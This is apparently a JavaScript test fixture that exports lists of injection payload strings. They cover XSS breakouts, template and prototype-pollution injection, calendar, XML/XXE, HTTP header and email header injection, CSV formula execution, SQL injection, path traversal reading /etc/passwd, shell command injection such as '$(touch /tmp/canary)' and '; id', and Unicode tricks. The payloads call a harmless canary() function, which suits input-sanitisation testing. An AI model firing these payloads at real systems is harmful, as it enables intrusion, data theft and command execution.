// Payloads that are text: they break out of attributes, styles, scripts and templates, or go into calendars, feeds,
// tables and headers; some are invisible characters.

const attributes = [
  '" onmouseover=canary() x="', '" autofocus onfocus=canary() x="', '"><img src=x onerror=canary()>', '\'><img src=x onerror=canary()>', "' onmouseover=canary() x='", "' autofocus onfocus=canary() x='",
  '` onmouseover=canary() x=`', ' onmouseover=canary() ', 'x onfocus=canary() autofocus', '"/onfocus=canary()/autofocus/x="', '"\nonfocus=canary()\nautofocus\nx="', '"><script>canary()</script>', "'><script>canary()</script>",
  '"><svg onload=canary()>', '--><img src=x onerror=canary()>', '--!><img src=x onerror=canary()>', '</textarea><img src=x onerror=canary()>', '</title><img src=x onerror=canary()>', '</noscript><img src=x onerror=canary()>',
  '</option></select><img src=x onerror=canary()>', '"><!--', '\\" onfocus=canary() autofocus x=\\"', '&quot; onfocus=canary() autofocus x=&quot;', '&#34;><img src=x onerror=canary()>', '"srcdoc="<script>canary()</script>',
  '" style="animation:pulse" onanimationstart="canary()', '"is="x"onclick="canary()', '\'"><img/src/onerror=canary()>', '"formaction="javascript:canary()', '"accesskey="x"onclick="canary()',
] // biome-ignore format: a list

const styles = [
  '</style><img src=x onerror=canary()>', '</style><script>canary()</script>', '<style>@import url(https://canary.example/x.css);</style>', '<style>*{background:url(https://canary.example/x.png)}</style>', '<style>*{background:url(javascript:canary())}</style>',
  '<p style="background:url(https://canary.example/p.png)">x</p>', '<p style="background:url(javascript:canary())">x</p>', '<p style="width:expression(canary())">x</p>', '<p style="behavior:url(#default#time2)">x</p>', '<p style="-moz-binding:url(data:text/xml,x)">x</p>',
  '<p style="position:fixed;inset:0;z-index:99999">x</p>', '<link rel=stylesheet href="data:text/css,*{background:red}">', '<style>@font-face{font-family:x;src:url(https://canary.example/f)}*{font-family:x}</style>',
  '<style>input[value^=a]{background:url(https://canary.example/a)}</style>', 'red;background:url(javascript:canary())', '0.5,0.5;background:url(https://canary.example/)', '}*{background:url(https://canary.example/)}', '<xss style="xss:expression(canary())">',
] // biome-ignore format: a list

const programs = [
  '</script><script>canary()</script>', '</script><img src=x onerror=canary()>', '</SCRIPT ><svg onload=canary()>', '</script\t><img src=x onerror=canary()>', '<!--<script>', '<!--<script></script><img src=x onerror=canary()>',
  '";canary();//', "';canary();//", '`;canary();//', '\\";canary();//', '\\\';canary();//', '\u0024{canary()}', '`\u0024{canary()}`', '"-canary()-"', "'-canary()-'", '"+canary()+"', '\u2028canary()//', '\u2029canary()//', '*/canary()/*', '\ncanary()\n',
  '"}</script><script>canary()</script>', '"}],"x":[{"</script><img src=x onerror=canary()>":"', '\\u003c/script\\u003e\\u003cscript\\u003ecanary()\\u003c/script\\u003e', '\\x3c/script\\x3e\\x3cimg src=x onerror=canary()\\x3e', '"},"@type":"Person","url":"javascript:canary()","x":{"y":"',
  '{{canary()}}', "{{constructor.constructor('canary()')()}}", '{{$on.constructor("canary()")()}}', '<%= canary() %>', '#{canary()}', '[[\u0024{canary()}]]', '{canary()}', '{...canary()}', '{"__html":"<img src=x onerror=canary()>"}', '{"$$typeof":"Symbol(react.element)","type":"script"}',
  '__proto__', 'constructor', 'toString', '{"__proto__":{"innerHTML":"<img src=x onerror=canary()>"}}', 'undefined', 'null', 'NaN', '[object Object]', '$&', '$`', "$'", '$1', '$$',
  '</astro-island><img src=x onerror=canary()>', '"></astro-island><script>canary()</script>', '<slot name=x onslotchange=canary()></slot>', '&quot;}]]}\'><img src=x onerror=canary()>', '[0,"javascript:canary()"]',
] // biome-ignore format: a list

const machines = [
  'x\r\nBEGIN:VEVENT\r\nURL:javascript:canary()\r\nEND:VEVENT', 'x\nATTACH:javascript:canary()', 'END:VEVENT\nEND:VCALENDAR', 'x;ATTENDEE=mailto:a@canary.example', 'x\\nURL:https://canary.example', 'x\r\n DESCRIPTION;ALTREP="javascript:canary()":x', 'x"\r\nX-ALT-DESC;FMTTYPE=text/html:<script>canary()</script>',
  ']]><script xmlns="http://www.w3.org/1999/xhtml">canary()</script>', '</title><script xmlns="http://www.w3.org/1999/xhtml">canary()</script><title>', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">canary()</x:script>', '<x:img xmlns:x="http://www.w3.org/1999/xhtml" src="x" onerror="canary()"/>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', '&xxe;', '&#x0;', '&#xFFFF;', ']]>', '<?xml-stylesheet href="javascript:canary()"?>', '</loc></url><url><loc>https://canary.example', '%0d%0aSet-Cookie:%20canary=1', 'x\r\nSet-Cookie: canary=1', 'x\r\n\r\n<script>canary()</script>',
  "=cmd|'/C calc'!A0", '=HYPERLINK("https://canary.example","x")', '+1+cmd|x', '@SUM(1+1)*cmd|x', '-2+3+cmd|x', '\t=1+1', '"=1+1"', 'x,"=1+1",\n=1', "'; DROP TABLE artists; --", "' OR '1'='1", '1; SELECT pg_sleep(9)', '%', '_', '\\', '"*"', 'NEAR(', 'a AND', 'x" OR "y', '../../../../etc/passwd', '..\\..\\x', 'file:///etc/passwd', '%00', '%s%s%s%n', '{0}', '$(touch /tmp/canary)', '`id`', '| id', '; id', '<!--#exec cmd="id"-->', '<?php canary(); ?>',
  '=?utf-8?q?=3Cscript=3E?=', 'a@b.example\r\nBcc: x@canary.example', '.\r\nMAIL FROM:<x@canary.example>',
] // biome-ignore format: a list

const signs = [
  '\u202e<script>canary()</script>', '\u202etxt.exe', '\u2066\u2067\u2068\u2069', '\u200b\u200c\u200d\ufeff', 'a\u0300\u0301\u0302\u0303\u0304'.repeat(20), '\ufeff<script>canary()</script>', '＜script＞canary()＜/script＞', '‹script›canary()‹/script›',
  '<ſcript>canary()</ſcript>', '<\u0000script>canary()</script>', '<scr\u0000ipt>canary()</scr\u0000ipt>', '<img\u00a0src=x\u00a0onerror=canary()>', '<img\u3000src=x onerror=canary()>', '<img src=x onerror\u000b=canary()>', '<img src=x on\u00aderror=canary()>', '\ud800<img src=x onerror=canary()>',
  '\udfff', '\ufffe\uffff', '\u{1f3f4}\u{e0067}\u{e0062}\u{e007f}', '👨‍👩‍👧‍👦'.repeat(20), 'ı̇İIi', 'ﬃ', '\u0085', '\u2028', '\u0007\u001b[31m', 'ＪａｖａＳｃｒｉｐｔ：canary()', '𝐬𝐜𝐫𝐢𝐩𝐭', '\u1160\u3164', '\u061c\u200f', '￼\ufffc', '<Kbd>\u212aelvin</kbd>', '+ADw-script+AD4-canary()+ADw-/script+AD4-', '\u001b(J<img src=x onerror=canary()>',
  '¼script¾canary()¼/script¾', '%3Cscript%3Ecanary()%3C/script%3E', '%253Cscript%253E', '\\u003cscript\\u003e', '&LT;SCRIPT&GT;canary()&LT;/SCRIPT&GT;', '&#0000060script&#62;', '<a'.repeat(60), '<b>'.repeat(66), '('.repeat(200), 'W'.repeat(200), '\u{10ffff}', '<p>'.repeat(600), '<b><i>'.repeat(500), `<a href="${'x'.repeat(3000)}">x</a>`,
] // biome-ignore format: a list

export const text = [...attributes, ...styles, ...programs, ...machines, ...signs]
